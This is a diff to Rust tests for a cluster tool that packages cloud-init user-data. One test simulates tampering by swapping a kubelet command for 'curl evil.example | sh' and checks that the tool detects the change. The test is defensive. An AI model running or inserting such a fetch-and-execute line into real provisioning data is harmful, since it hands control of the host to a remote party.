@@ -152,7 +152,6 @@ fn a_nodes_user_data_fits_into_what_ec2_takes_and_every_host_that_does_not_fit_i
         let told = format!("{master} ({} bytes)", size(master));
         assert_eq!(ran.err.contains(&told), size(master) > 16 << 10, "{told}: {ran}");
     }
-    println!("node {}, long name {}, master {}", size("on"), size(long), size("master-1"));
 }
 
 #[test]
@@ -468,7 +467,7 @@ fn what_somebody_changed_in_a_parcel_is_found() {
     lab.good(&["bundle", "on", "--format", "dir"]);
 
     let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
-    change("user-data.yaml", "systemctl restart kubelet", "curl evil.example | sh");
+    change("user-data.yaml", "systemctl enable kubelet && systemctl restart kubelet", "curl evil.example | sh");
     good_tool("gzip", &["-nf", &path]);
     fs::rename(lab.path("user-data.yaml.gz"), lab.path("bundles/on.cloud-init.yaml.gz")).expect("replaced");
     assert!(judged("clusterctl bundle on --format cloud-init").contains("or somebody changed it since"));
